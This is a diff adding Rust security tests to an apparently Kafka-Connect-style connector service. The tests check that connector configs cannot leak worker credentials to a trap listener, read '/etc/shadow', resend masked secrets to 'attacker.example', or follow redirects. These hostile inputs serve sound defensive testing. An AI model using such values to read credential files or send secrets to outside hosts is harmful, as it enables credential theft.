@@ -229,6 +229,52 @@ async fn rest_connectors_cannot_read_the_workers_secrets_through_config_provider
             .contains("allows no such environment variable"),
         "{answer}"
     );
+    // The reporter's own cluster would get the worker's credentials too.
+    let (status, answer) = w
+        .call(
+            "POST",
+            "/connectors",
+            Some(&http_connector(
+                "reporter",
+                &topic,
+                "http://127.0.0.1:9/",
+                &[
+                    ("reporter.bootstrap.servers", trap.addr.as_str()),
+                    ("reporter.result.topic.name", "results"),
+                ],
+            )),
+        )
+        .await;
+    assert_eq!(status, 400, "{answer}");
+    assert!(
+        answer.to_string().contains("reporter.bootstrap.servers"),
+        "{answer}"
+    );
+    // Files are read only where the operator allows: not /dev/zero, not /etc.
+    for path in ["/dev/zero", "/etc/shadow"] {
+        let (status, answer) = w
+            .call(
+                "POST",
+                "/connectors",
+                Some(&http_connector(
+                    "files",
+                    &topic,
+                    "https://127.0.0.1:9/",
+                    &[("https.ssl.ca.location", path)],
+                )),
+            )
+            .await;
+        assert_eq!(status, 400, "{path}: {answer}");
+        assert!(
+            answer
+                .to_string()
+                .contains("sluice.connector.allowed.paths"),
+            "{answer}"
+        );
+    }
+    tokio::time::sleep(Duration::from_secs(1)).await;
+    assert_eq!(trap.hits(), 0, "nothing reached the attacker's listener");
+    assert_eq!(w.code("GET", "/health").await, 200);
     let _ = w.process.stop();
     let _ = w2.process.stop();
 }
@@ -681,6 +727,17 @@ async fn secrets_never_reach_an_output_and_a_masked_config_round_trips() {
         Some(&*format!("Bearer {}", secrets[0]))
     );
     assert_eq!(after.header("x-api-key"), Some(secrets[1]));
+    // A masked config sent to another URL does not take the secrets along.
+    let mut moved = shown.clone();
+    moved["http.api.url"] = "http://attacker.example:9/in".into();
+    let (status, answer) = w
+        .call("PUT", &format!("/connectors/{name}/config"), Some(&moved))
+        .await;
+    assert_eq!(status, 400, "{answer}");
+    assert!(
+        answer.to_string().contains("send their values again"),
+        "{answer}"
+    );
     let stderr = w.process.stop().1;
     channels.push((
         "the log at trace level".into(),
@@ -805,6 +862,39 @@ async fn names_loggers_and_redirects_stay_within_bounds() {
     }
     tokio::time::sleep(Duration::from_secs(2)).await;
     assert!(b.received().is_empty(), "the other host got the request");
+    // A 302 on the same host would turn the POST into a bodiless GET whose
+    // 200 would pass for a delivery: it fails the request instead.
+    let c = Receiver::start().await;
+    c.redirect_all_with(302, &c.url("/login"));
+    let topic302 = unique_topic("redirect302");
+    create_topic(&topic302, 1).await;
+    let connector = http_connector(
+        "redirected302",
+        &topic302,
+        &c.url("/in"),
+        &[("max.retries", "0"), ("behavior.on.error", "log")],
+    );
+    let (status, answer) = w.call("POST", "/connectors", Some(&connector)).await;
+    assert_eq!(status, 201, "{answer}");
+    produce(
+        &producer(),
+        &topic302,
+        0,
+        &[(None, Some(r#"{"n":1}"#.into()))],
+    )
+    .await;
+    let deadline = std::time::Instant::now() + Duration::from_secs(60);
+    while c.received().is_empty() {
+        assert!(std::time::Instant::now() < deadline, "nothing was sent");
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    tokio::time::sleep(Duration::from_secs(2)).await;
+    let got = c.received();
+    assert!(
+        got.iter().all(|r| r.method == "POST" && r.path == "/in"),
+        "the redirect was followed: {:?}",
+        got.iter().map(|r| (&r.method, &r.path)).collect::<Vec<_>>()
+    );
     assert_eq!(w.code("GET", "/health").await, 200);
     let _ = w.process.stop();
 }
